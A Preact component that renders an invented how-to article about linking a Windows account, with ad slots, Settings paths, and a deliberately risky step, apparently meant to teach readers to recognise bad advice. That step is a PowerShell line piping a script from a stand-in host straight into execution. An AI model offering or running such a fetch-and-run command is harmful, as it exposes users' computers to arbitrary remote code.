import type { VNode } from 'preact';
import { type MessageKey, t } from '../shared/i18n.ts';
import './sample.css';

interface Props {
  /** Click path of a Settings page in the reader's language. */
  pathTo: (uri: string) => string;
}

const STEPS: readonly (readonly [MessageKey, string])[] = [
  ['template_link_account_activated', 'ms-settings:activation'],
  ['template_link_account_sign_in', 'ms-settings:yourinfo'],
  ['template_link_account_edition', 'ms-settings:about'],
];

/** An article as sites have them, invented: an ad, steps, and advice that is better not followed. */
export function SampleArticle({ pathTo }: Props): VNode {
  return (
    <main class="sample">
      <p class="sample-note">
        {t('sampleNote')} <a href="/welcome.html">{t('welcomeTitle')}</a>
      </p>
      <h1>Windows: {t('template_link_account')}</h1>
      <p class="adsbygoogle sample-ad">{t('sampleAd')}</p>
      <ol>
        {STEPS.map(([words, uri]) => (
          <li key={uri}>
            {t(words)}: <strong>{pathTo(uri)}</strong>
          </li>
        ))}
        <li>
          {t('sampleCommand')} <code dir="ltr">slmgr /xpr</code>
        </li>
        <li>
          {t('sampleRisk')} <code dir="ltr">irm https://get.example.net/activate | iex</code>
        </li>
      </ol>
      <p class="adsbygoogle sample-ad">{t('sampleAd')}</p>
    </main>
  );
}
